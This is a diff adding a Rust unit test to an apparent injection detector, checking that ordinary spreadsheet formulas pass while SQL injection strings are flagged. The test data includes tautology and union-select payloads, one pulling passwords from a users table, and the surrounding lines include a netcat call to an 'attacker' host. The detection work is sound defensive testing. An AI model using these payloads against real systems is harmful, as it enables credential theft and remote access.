@@ -760,6 +760,23 @@ mod tests {
     }
 
     #[test]
+    fn sql_in_a_formula_counts_where_it_works_as_an_injection() {
+        assert!(!confirmed(
+            Confirm::Sql,
+            "=QUERY(A:G,\"select * where B contains 'Kava' and G is not null\")"
+        ));
+        assert!(!confirmed(
+            Confirm::Sql,
+            "=IFERROR(VLOOKUP([@SKU],Products!A:C,3,FALSE),\"-\")"
+        ));
+        assert!(confirmed(Confirm::Sql, "=IF(x' or '1'='1)"));
+        assert!(confirmed(
+            Confirm::Sql,
+            "=SUM(1)' union select password from users where '1'='1"
+        ));
+    }
+
+    #[test]
     fn a_name_and_a_number_is_a_command_only_where_the_command_takes_one() {
         assert!(confirmed(Confirm::Shell, "sleep 5"));
         assert!(confirmed(Confirm::Shell, "nc attacker 4444"));
